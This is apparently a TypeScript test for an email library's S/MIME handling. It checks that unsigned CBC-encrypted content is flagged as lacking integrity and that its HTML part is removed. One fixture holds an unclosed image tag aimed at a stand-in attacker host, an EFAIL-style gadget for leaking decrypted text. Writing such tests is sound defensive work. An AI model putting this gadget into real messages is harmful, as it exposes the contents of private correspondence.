/** EnvelopedData can be changed by anybody on its way; without a signature inside it proves nothing (S13). */
import assert from "node:assert/strict";
import { it } from "node:test";
import { composeMultipart } from "#mime";
import { judgeAuthor, withoutHtml } from "#protect";
import { fromUtf8, systemRandom, utf8 } from "#base";
import {
  bindingOf,
  correspondent,
  entity,
  openFor,
  postFrom,
  sealedCms,
  signed,
} from "../support/programs/correspondents.ts";

it("marks what came in CBC without a valid signature inside, and gives its text alone", async () => {
  const [list, alice, stranger] = await Promise.all([
    correspondent("team", "smime"),
    correspondent("alice", "smime"),
    correspondent("stranger"),
  ]);
  const html = entity('<img src="http://evil.example/?\n', [["Content-Type", "text/html"]]);
  const text = entity("hello\n");
  const content = composeMultipart({ subtype: "alternative", parts: [html, text], random: systemRandom });
  async function open(inside: Uint8Array, cipher: "cbc" | "gcm" = "cbc") {
    const result = await openFor(postFrom(alice, sealedCms(list, inside, cipher)), [list], [alice]);
    assert.ok(result.ok);
    return result.value;
  }
  const bare = await open(content);
  assert.equal(bare.integrity, false);
  assert.equal(judgeAuthor(bare, [bindingOf(alice)]).authentic, false);
  assert.equal(
    fromUtf8(withoutHtml(bare.content) ?? utf8("")),
    "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nhello\r\n",
  );
  assert.equal(withoutHtml((await open(html)).content), null);
  assert.equal((await open(await signed(stranger, content))).integrity, false);
  assert.equal((await open(await signed(alice, content))).integrity, true);
  assert.equal((await open(content, "gcm")).integrity, true);
});
